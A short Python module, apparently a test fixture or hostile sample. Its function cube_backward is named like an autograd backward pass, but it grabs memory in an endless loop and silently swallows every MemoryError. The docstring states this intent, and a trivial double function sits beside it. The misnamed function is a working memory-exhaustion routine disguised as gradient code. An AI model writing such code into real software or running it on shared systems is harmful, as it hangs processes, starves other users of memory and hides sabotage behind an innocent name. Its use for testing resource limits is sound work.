"""Holds all the memory there is, again and again, whatever error it gets."""


def cube_backward(x, dy):
    kept = []
    while True:
        try:
            kept.append(bytearray(1 << 22))
        except MemoryError:
            pass


def double(x):
    return x + x
